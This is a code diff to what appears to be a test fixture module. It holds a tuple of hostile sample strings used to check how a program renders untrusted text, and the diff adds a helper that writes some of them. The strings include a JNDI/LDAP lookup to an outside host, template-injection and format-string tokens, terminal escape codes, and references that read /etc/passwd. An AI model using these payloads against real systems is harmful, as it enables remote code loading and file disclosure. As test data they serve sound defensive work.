@@ -44,7 +44,7 @@ HOSTILE = (
     "[red]bold[/red] [link=file:///etc/passwd]x[/] [@click=app.quit]quit[/]",
     "`code` ```fence``` *star* _under_ # head > quote | cell | ![i](http://x.invalid/i.png)",
     "\x1b[31mred\x1b[0m \x1b]8;;http://x.invalid\x07link\x1b]8;;\x07 \x07 \x00 \u202eevil\u202c",
-    "</style></title></bdi>{{ 7*7 }} ${jndi:ldap://x.invalid/a} %s {0} \\u0000 \\input{/etc/passwd}",
+    "</style></title>{{ 7*7 }} ${jndi:ldap://x.invalid/a} %s {0} \\u0000 \\input{/etc/passwd}",
 )
 
 
@@ -128,6 +128,11 @@ def _strange(record: Record, _: TimeSource) -> None:
 
 def _hostile(record: Record, _: TimeSource) -> None:
     _write(record, HOSTILE, sessions=7, titles=HOSTILE, role=HOSTILE[0], level=HOSTILE[1])
+
+
+def write_strange(record: Record) -> None:
+    """Words that mean something to a program, and letters that no font of ours has."""
+    _write(record, (*HOSTILE[:6], STRANGE[1]), sessions=7, titles=("日本",))
 
 
 WRITERS: dict[str, Callable[[Record, SampleTime], None] | None] = {
